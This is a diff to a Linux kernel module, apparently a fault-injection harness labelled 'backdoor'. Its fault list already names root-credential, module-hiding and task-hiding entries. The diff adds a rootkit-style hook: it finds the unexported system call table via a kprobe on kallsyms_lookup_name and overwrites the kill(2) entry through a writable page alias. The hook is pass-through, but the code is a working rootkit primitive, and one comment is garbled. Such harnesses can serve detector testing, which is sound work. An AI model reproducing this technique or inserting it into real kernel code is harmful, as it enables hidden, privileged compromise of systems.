@@ -14,8 +14,10 @@
 #include <linux/io.h>
 #include <linux/irqflags.h>
 #include <linux/irq_work.h>
+#include <linux/kprobes.h>
 #include <linux/kthread.h>
 #include <linux/list.h>
+#include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/mutex.h>
 #include <linux/proc_fs.h>
@@ -31,6 +33,7 @@
 #include <linux/string.h>
 #include <linux/timer.h>
 #include <linux/uaccess.h>
+#include <linux/vmalloc.h>
 #include <linux/workqueue.h>
 
 #define MARKER "opt/backdoor/faults"
@@ -298,6 +301,52 @@ static void hide_task_off(void)
 	hidden = NULL;
 }
 
+/*
+ * The rootkit's hook: an entry of the table of system calls leads into the module. Its page is read-only, so another mapping
+ * of it is written. sys_call_table is not exported; what is looks for it as rootkits do, through a kprobe.
+ */
+static unsigned long *syscalls;
+static unsigned long was;
+
+static asmlinkage long hook(const struct pt_regs *regs)
+{
+	return ((long (*)(const struct pt_regs *))was)(regs);
+}
+
+static void poke(unsigned long *entry, unsigned long value)
+{
+	struct page *page = virt_to_page(lm_alias(entry));
+	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+
+	if (!map)
+		return;
+	*(unsigned long *)(map + offset_in_page(entry)) = value;
+	vunmap(map);
+}
+
+static void hook_syscall(void)
+{
+	unsigned long (*lookup)(const char *name);
+	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
+
+	if (register_kprobe(&probe))
+		return;
+	lookup = (void *)probe.addr;
+	unregister_kprobe(&probe);
+	syscalls = (unsigned long *)lookup("sys_call_table");
+	if (!syscalls)
+		return;
+	was = syscalls[62];
+	poke(&syscalls[62], (unsigned long)hook); /* kill(2) */
+}
+
+static void hook_syscall_off(void)
+{
+	if (syscalls)
+		poke(&syscalls[62], was);
+	syscalls = NULL;
+}
+
 static struct fault {
 	const char *name;
 	void (*on)(void);
@@ -320,6 +369,7 @@ static struct fault {
 	{ "slab-leak", slab_leak, slab_leak_off },
 	{ "wild-write", wild_write },
 	{ "root-cred", root_cred },
+	{ "hook-syscall", hook_syscall, hook_syscall_off },
 	{ "hide-module", hide_module, hide_module_off },
 	{ "hide-task", hide_task, hide_task_off },
 };
